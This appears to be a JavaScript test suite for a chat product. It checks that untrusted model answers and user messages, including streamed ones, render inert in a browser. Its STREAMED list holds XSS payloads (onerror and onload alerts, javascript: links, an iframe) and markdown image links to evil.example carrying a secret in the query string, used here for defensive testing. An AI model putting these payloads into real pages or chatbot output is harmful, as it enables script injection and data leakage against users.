// Texts that want to run, load or forge something (untrusted-texts.json), as answers, while they stream, and as people's messages: no
// script runs, nothing is requested, and messages consist of what messages may consist of. Names of other hosts lead to a server on this
// machine that counts who comes.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { after, before, test } from 'node:test';
import { browser, person, product } from './deployment.mjs';
import { demoModel } from './demo-model.mjs';
import { Room } from './room.mjs';
import { speaker } from './speaker.mjs';
import { RULES, watch } from './untrusted.mjs';

const texts = JSON.parse(await readFile(new URL('untrusted-texts.json', import.meta.url), 'utf8')).map(({ text, times = 1, links = [], ...rest }) => ({
  text: text.repeat(times),
  links,
  ...rest,
}));

/// So many texts share a room: fewer than would make the room sum up its history.
const ROOM_TEXTS = 32;
/// What a person may send at once: messages, or questions, which take three times as much.
const MESSAGES_AT_ONCE = 28;
const QUESTIONS_AT_ONCE = 9;

let model;
let madang;
let chromium;
let elsewhere;
let visits = 0;

before(async () => {
  elsewhere = createServer((socket) => {
    visits += 1;
    socket.destroy();
  });
  await new Promise((done) => elsewhere.listen(0, '127.0.0.1', done));
  model = await demoModel();
  await model.pace(0);
  madang = await product(model.settings);
  chromium = await browser([`--host-resolver-rules=MAP *.example 127.0.0.1:${elsewhere.address().port}`]);
});

after(async () => {
  await chromium?.close();
  await madang?.stop();
  await model?.stop();
  elsewhere?.close();
});

/// A reader whose page is watched.
async function reader() {
  const someone = await person(chromium, madang);
  const dialogs = [];
  someone.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  await someone.context.addInitScript(watch, RULES);
  const room = new Room(someone.page, madang.address);
  const requests = [];
  someone.page.on('request', (request) => requests.push(request.url()));
  return {
    ...someone,
    room,
    async enter(name) {
      await room.join('Ann', name);
      await someone.page.evaluate(() => madangWatch.start());
      requests.length = 0;
    },
    /// A message, once it is shown as it stays.
    async read(seq) {
      const article = someone.page.locator(`article[data-seq="${seq}"]:is([data-state="sent"], [data-state="done"])`);
      await article.waitFor({ state: 'attached' });
      return someone.page.evaluate((seq) => madangWatch.read(seq), seq);
    },
    /// Nothing ran, nothing was requested, nothing strange appeared.
    async isHarmless() {
      const { ran, reports, strange } = await someone.page.evaluate(() => madangWatch);
      // The parts of the page that color code and typeset formulas are loaded when they are first used.
      const others = requests.filter((url) => !url.startsWith(`${madang.address}/parts/`));
      assert.deepEqual({ ran, reports, strange, dialogs, requests: others, visits }, { ran: [], reports: [], strange: [], dialogs: [], requests: [], visits: 0 });
      assert.deepEqual([someone.complaints, someone.strangers, someone.context.pages().length], [[], [], 1]);
    },
  };
}

/// People who each send as much as one may at once.
function crowd(room, many) {
  let current;
  let left = 0;
  let number = 0;
  return async () => {
    if (left === 0) {
      current?.leave();
      current = await speaker(madang.address, room, `Eve ${(number += 1)}`);
      left = many;
    }
    left -= 1;
    return current;
  };
}

function groups(all) {
  return Array.from({ length: Math.ceil(all.length / ROOM_TEXTS) }, (_, index) => all.slice(index * ROOM_TEXTS, (index + 1) * ROOM_TEXTS));
}

/// A link leads to one of the text's own addresses, and HTML is shown as it was written.
function isShown({ text, links: allowed, class: kind }, { text: shown, links }) {
  for (const link of links) assert.ok(allowed.includes(link), `${JSON.stringify(text.slice(0, 200))} leads to ${link}`);
  const isHtml = ['raw HTML', 'svg, math, mutation'].includes(kind) && text.startsWith('<');
  if (isHtml) assert.ok(shown.includes('<'), `${JSON.stringify(text)} is shown as ${JSON.stringify(shown)}`);
}

test('case_22_case_23_case_24_untrusted_answers_are_inert', async () => {
  const ann = await reader();
  for (const [index, group] of groups(texts).entries()) {
    const name = `answers-${index}`;
    await ann.enter(name);
    const next = crowd(name, QUESTIONS_AT_ONCE);
    let seq;
    for (const entry of group) {
      const eve = await next();
      await model.answers([entry.text]);
      const answer = await eve.ask('@chatbot go on');
      assert.equal(answer.state, 'done', JSON.stringify(entry.text.slice(0, 200)));
      seq = answer.seq;
      isShown(entry, await ann.read(seq));
    }
    await ann.isHarmless();
    // The same texts, parsed whole.
    await ann.page.reload();
    await ann.room.isConnected();
    await ann.read(seq);
    const seqs = await ann.room.articles.evaluateAll((all) => all.map((one) => Number(one.dataset.seq)));
    assert.ok(seqs.length >= group.length);
    for (const seq of seqs) await ann.page.evaluate((seq) => madangWatch.read(seq), seq);
    const { ran, reports, strange } = await ann.page.evaluate(() => madangWatch);
    assert.deepEqual({ ran, reports, strange, visits }, { ran: [], reports: [], strange: [], visits: 0 });
  }
  await ann.context.close();
});

test('case_22_case_23_case_24_untrusted_messages_are_inert', async () => {
  const ann = await reader();
  const refused = [];
  for (const [index, group] of groups(texts).entries()) {
    const name = `messages-${index}`;
    await ann.enter(name);
    const next = crowd(name, MESSAGES_AT_ONCE);
    for (const entry of group) {
      const eve = await next();
      // Nobody is asked: the names of bots stand in the texts as well.
      const text = entry.text.slice(0, 4_000).replace('@chatbot', '@nobody');
      const seq = await eve.say(text).catch(({ code }) => void refused.push([code, text]));
      if (seq) isShown({ ...entry, text }, await ann.read(seq));
    }
    await ann.isHarmless();
  }
  // Controls never reach the room's history, nor does a message that shows nothing.
  for (const [code, text] of refused) assert.ok(code === 'control_characters' ? /[\0-\x1f]/.test(text) : code === 'empty', `${code}: ${JSON.stringify(text.slice(0, 200))}`);
  assert.ok(refused.length < 10, JSON.stringify(refused));
  await ann.context.close();
});

const STREAMED = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '![a](https://evil.example/p.png?q=secret)',
  '[![a](https://evil.example/a.png)](javascript:alert(1))',
  '![a][r]\n\n[r]: https://evil.example/r.png',
  '<iframe src=javascript:alert(1)></iframe>',
  '|[x](javascript:alert(1))|\n|-|\n|<img src=x onerror=alert(1)>|',
  '```html onload=alert(1)\n<img src=x onerror=alert(1)>\n```',
  '[x](https://evil.example/t "onmouseover=alert(1)")',
];
const BOTS = ['chatbot', 'translator', 'counsellor', 'tutor'];
/// A piece of an answer in each frame that the room sends: it gathers them for 30 ms.
const PACE_MS = 70;

test('case_22_case_23_untrusted_answers_are_inert_at_every_split_while_they_stream', async () => {
  const ann = await reader();
  let frames = 0;
  ann.page.on('websocket', (socket) => socket.on('framereceived', ({ payload }) => (frames += `${payload}`.startsWith('[[') ? 1 : 0)));
  await ann.enter('streamed');
  await model.pace(PACE_MS);
  const people = await Promise.all(BOTS.map((bot) => speaker(madang.address, 'streamed', `asks ${bot}`)));
  for (let at = 0; at < STREAMED.length; at += BOTS.length) {
    const round = STREAMED.slice(at, at + BOTS.length);
    await model.answers(...round.map((text) => [...text]));
    const answers = await Promise.all(round.map((_, index) => people[index].ask(`@${BOTS[index]} go on`)));
    for (const { seq, state } of answers) {
      assert.equal(state, 'done');
      await ann.read(seq);
    }
  }
  await model.pace(0);
  await ann.isHarmless();
  const longest = STREAMED.map((text) => text.length).reduce((most, length) => Math.max(most, length));
  assert.ok(frames > longest, `the answers were shown in ${frames} steps`);
  await ann.context.close();
});
